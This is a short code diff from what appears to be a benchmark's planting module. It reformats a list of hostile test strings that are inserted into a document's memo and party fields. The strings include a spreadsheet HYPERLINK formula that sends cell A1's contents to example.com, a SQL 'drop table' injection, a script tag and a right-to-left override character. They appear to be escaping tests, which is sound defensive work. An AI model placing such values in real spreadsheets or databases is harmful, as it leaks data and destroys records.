@@ -7,10 +7,18 @@ from benchmarks.planting.situation import Aspect, Situation
 
 
 def _plant(case: Case) -> None:
-    text = case.draw.of((
-        '=HYPERLINK("http://example.com/?"&A1,"Pay")', "+1-1", "@SUM(A1)", 'He said "void"\nthen left',
-        "Robert'); drop table items;--", "a;b,c\t|", "\u202enoitcejni", "<script>x</script>",
-    ))
+    text = case.draw.of(
+        (
+            '=HYPERLINK("http://example.com/?"&A1,"Pay")',
+            "+1-1",
+            "@SUM(A1)",
+            'He said "void"\nthen left',
+            "Robert'); drop table items;--",
+            "a;b,c\t|",
+            "\u202enoitcejni",
+            "<script>x</script>",
+        )
+    )
     party = f"{text} {case.paper.party}"
     case.change_document(memo=f"{case.paper.memo} {text}".strip(), party=party)
 
